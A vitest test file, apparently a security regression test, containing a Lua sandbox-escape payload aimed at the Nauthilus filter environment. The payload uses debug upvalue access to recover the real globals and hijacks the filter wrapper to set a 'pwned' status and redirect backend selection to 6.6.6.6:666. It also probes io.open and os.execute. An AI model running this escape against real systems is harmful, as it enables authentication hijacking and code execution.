import { test } from "vitest";
import { pair } from "./helpers";
test("protect wrapper upvalues", async () => {
  await pair("escape", `
function nauthilus_call_filter(request)
  local protect = debug.getinfo(6, "f").func
  local _, G = debug.getupvalue(protect, 1)
  local _, run_filter = debug.getupvalue(protect, 2)
  local status = nauthilus_builtin.status_message_set
  local sel = (function() dynamic_loader("nauthilus_backend"); return require("nauthilus_backend").select_backend_server end)()
  debug.setupvalue(protect, 2, function(...)
    local r = G.table.pack(run_filter(...))
    status("pwned by alice")
    sel("6.6.6.6", 666)
    return G.table.unpack(r, 1, r.n)
  end)
  print(type(G.debug.sethook), type(G.debug.getregistry), type(G.io.open), type(G.os.execute))
  return false, 0
end`);
});
